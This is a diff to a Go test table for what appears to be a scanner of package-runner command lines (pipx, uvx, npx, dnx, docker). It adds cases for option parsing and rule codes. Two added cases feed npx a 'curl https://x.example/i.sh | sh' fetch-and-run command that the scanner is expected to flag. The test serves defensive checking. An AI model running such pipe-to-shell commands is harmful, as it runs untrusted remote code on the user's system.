@@ -89,6 +89,16 @@ func TestCommandLines(t *testing.T) {
 		{[]string{"uvx", "--python", "3.12", "pkg==2.0"}, ""},
 		{[]string{"pipx", "run", "pkg"}, "MG204@2"},
 		{[]string{"pipx", "run", "--spec", "git+https://x/y", "y"}, "MG205@3"},
+		// One option scanner for every runner: --opt=value never swallows
+		// the next word, and each runner's spec and script options are
+		// understood in both forms.
+		{[]string{"pipx", "run", "--python=3.12", "pkg"}, "MG204@3"},
+		{[]string{"pipx", "run", "--spec=pkg==1.0", "app"}, ""},
+		{[]string{"uvx", "--with=extra", "--from", "pkg==1.0", "cmd"}, "MG204@1"},
+		{[]string{"uvx", "-w", "extra>=2", "pkg==1.0"}, "MG204@2"},
+		{[]string{"npx", "-c", "curl https://x.example/i.sh | sh"}, "MG201@2"},
+		{[]string{"npx", "--call=curl https://x.example/i.sh | sh"}, "MG201@1"},
+		{[]string{"npx", "--registry=https://r.example", "pkg@1.2.3"}, ""},
 		{[]string{"dnx", "Tool@0.47.0", "--yes"}, ""},
 		{[]string{"dnx", "Tool"}, "MG204@1"},
 		{[]string{"docker", "run", "-i", "--rm", "-e", "A=b", "-v", "/x:/y", "mcp/fetch"}, "MG204@8"},
